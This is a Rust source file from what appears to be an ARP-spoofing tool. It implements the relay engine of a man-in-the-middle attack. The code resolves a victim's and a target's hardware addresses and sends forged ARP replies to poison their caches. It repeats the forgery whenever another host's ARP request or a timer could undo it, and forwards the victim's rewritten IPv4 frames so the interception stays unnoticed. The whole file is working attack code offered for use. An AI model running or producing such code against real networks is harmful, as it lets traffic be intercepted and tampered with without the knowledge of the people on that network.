//! Session driver: resolve, poison, then relay the victim's traffic
//!
//! Each session moves through [`RelayState::Resolving`],
//! [`RelayState::Spoofed`] and [`RelayState::Relaying`], and ends in
//! [`RelayState::Stopped`] once cancelled, failed, or when the transport
//! closes. While relaying, every captured frame goes through [`classify`]:
//!
//! - an ARP request not sent by us means some host is about to learn the
//!   genuine address, so the forged reply is repeated after a short delay
//! - an IPv4 frame from the victim is forwarded to the real target with
//!   our address as the source

use arpspoof_core::{
    AttackSession, FrameReceiver, FrameTransport, LocalIdentity, MacAddr, Packet, Result,
    SessionStats,
};
use arpspoof_packet::{rewrite_addresses, ArpFrame, EtherType, EthernetHeader};
use std::sync::Arc;
use tokio::time::Instant;
use tracing::{debug, info, trace, warn};

use crate::cache::AddressCache;
use crate::config::EngineConfig;
use crate::context::{RelayState, SessionContext};
use crate::resolver::AddressResolver;
use crate::spoof::SpoofController;

/// What the relay loop does with one captured frame
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct FrameAction {
    /// Repeat the forged reply
    pub respoof: bool,
    /// Forward the frame to the real target
    pub relay: bool,
}

/// Decide what to do with a captured frame.
///
/// Fails with `MalformedFrame` when the buffer is too short for the
/// headers it announces.
pub fn classify(data: &[u8], session: &AttackSession, local_mac: MacAddr) -> Result<FrameAction> {
    let ethernet = EthernetHeader::parse(data)?;
    let mut action = FrameAction::default();

    if ethernet.ethertype == EtherType::Arp && ethernet.source != local_mac {
        action.respoof = ArpFrame::decode(data)?.arp.is_request();
    }

    if ethernet.ethertype == EtherType::Ipv4 && ethernet.source == session.sender_mac {
        action.relay = true;
    }

    Ok(action)
}

/// Runs sessions against one transport; clones share the transport and cache
#[derive(Clone)]
pub struct RelayEngine {
    transport: Arc<dyn FrameTransport>,
    local: LocalIdentity,
    resolver: AddressResolver,
    spoofer: SpoofController,
    config: EngineConfig,
}

impl RelayEngine {
    pub fn new(
        transport: Arc<dyn FrameTransport>,
        local: LocalIdentity,
        cache: AddressCache,
        config: EngineConfig,
    ) -> Self {
        let resolver = AddressResolver::new(Arc::clone(&transport), local, cache, &config);
        let spoofer = SpoofController::new(Arc::clone(&transport), local, config.restore_count);

        Self {
            transport,
            local,
            resolver,
            spoofer,
            config,
        }
    }

    pub fn local(&self) -> LocalIdentity {
        self.local
    }

    pub fn config(&self) -> &EngineConfig {
        &self.config
    }

    pub fn resolver(&self) -> &AddressResolver {
        &self.resolver
    }

    pub fn spoofer(&self) -> &SpoofController {
        &self.spoofer
    }

    /// Drive one session until it is stopped or fails
    pub async fn run(&self, ctx: &SessionContext) -> Result<SessionStats> {
        ctx.set_state(RelayState::Resolving);
        let result = self.drive(ctx).await;
        ctx.set_state(RelayState::Stopped);
        result.map(|_| ctx.stats())
    }

    async fn drive(&self, ctx: &SessionContext) -> Result<()> {
        let sender_mac = self.resolver.resolve_until(ctx.target.sender, &ctx.running).await?;
        let target_mac = self.resolver.resolve_until(ctx.target.target, &ctx.running).await?;
        let session = AttackSession::new(ctx.id, ctx.target, sender_mac, target_mac);

        info!(session = %ctx.id, "Poisoning {}", session);

        let mut frames = self.transport.subscribe();
        self.send_spoof(ctx, &session).await;
        ctx.set_state(RelayState::Spoofed);

        ctx.set_state(RelayState::Relaying);
        let result = self.relay(ctx, &session, &mut frames).await;

        if self.config.restore_on_exit {
            // Failures are logged per reply
            let _ = self.spoofer.restore(&session, &ctx.stats).await;
        }

        result
    }

    async fn relay(
        &self,
        ctx: &SessionContext,
        session: &AttackSession,
        frames: &mut FrameReceiver,
    ) -> Result<()> {
        let mut next_refresh = self.config.refresh_interval.map(|every| Instant::now() + every);

        while ctx.is_running() {
            let mut wait = self.config.poll_interval;

            if let (Some(at), Some(every)) = (next_refresh, self.config.refresh_interval) {
                let now = Instant::now();
                if now >= at {
                    trace!(session = %ctx.id, "Periodic refresh");
                    self.send_spoof(ctx, session).await;
                    next_refresh = Some(now + every);
                    continue;
                }
                wait = wait.min(at - now);
            }

            let packet = match frames.recv_timeout(wait).await {
                Ok(Some(packet)) => packet,
                Ok(None) => continue,
                Err(e) => {
                    warn!(session = %ctx.id, error = %e, "Stopped relaying");
                    return Err(e);
                }
            };

            self.handle_frame(ctx, session, &packet).await;
        }

        debug!(session = %ctx.id, "Session cancelled");
        Ok(())
    }

    /// Act on one captured frame
    pub async fn handle_frame(
        &self,
        ctx: &SessionContext,
        session: &AttackSession,
        packet: &Packet,
    ) -> FrameAction {
        ctx.stats.record_frame();

        let action = match classify(packet.data(), session, self.local.mac) {
            Ok(action) => action,
            Err(e) => {
                ctx.stats.record_malformed();
                trace!(session = %ctx.id, error = %e, "Skipping malformed frame");
                return FrameAction::default();
            }
        };

        if action.respoof {
            ctx.stats.record_respoof();
            debug!(session = %ctx.id, "ARP request observed, re-spoofing");
            if ctx
                .sleep_while_running(self.config.respoof_delay, self.config.poll_interval)
                .await
            {
                self.send_spoof(ctx, session).await;
            }
        }

        if action.relay {
            if packet.is_truncated() {
                warn!(
                    session = %ctx.id,
                    captured = packet.len(),
                    wire = packet.wire_len,
                    "Not relaying truncated frame"
                );
            } else {
                self.forward(ctx, session, packet.data()).await;
            }
        }

        action
    }

    async fn forward(&self, ctx: &SessionContext, session: &AttackSession, data: &[u8]) {
        let frame = match rewrite_addresses(data, self.local.mac, session.target_mac) {
            Ok(frame) => frame,
            Err(e) => {
                ctx.stats.record_malformed();
                trace!(session = %ctx.id, error = %e, "Skipping malformed frame");
                return;
            }
        };

        match self.transport.send(&frame).await {
            Ok(()) => {
                ctx.stats.record_relayed();
                trace!(session = %ctx.id, size = frame.len(), "Relayed frame");
            }
            Err(e) => {
                ctx.stats.record_send_error();
                warn!(session = %ctx.id, error = %e, "Failed to relay frame");
            }
        }
    }

    async fn send_spoof(&self, ctx: &SessionContext, session: &AttackSession) {
        if let Err(e) = self.spoofer.spoof(session, &ctx.stats).await {
            warn!(session = %ctx.id, error = %e, "Failed to send forged reply");
        }
    }
}
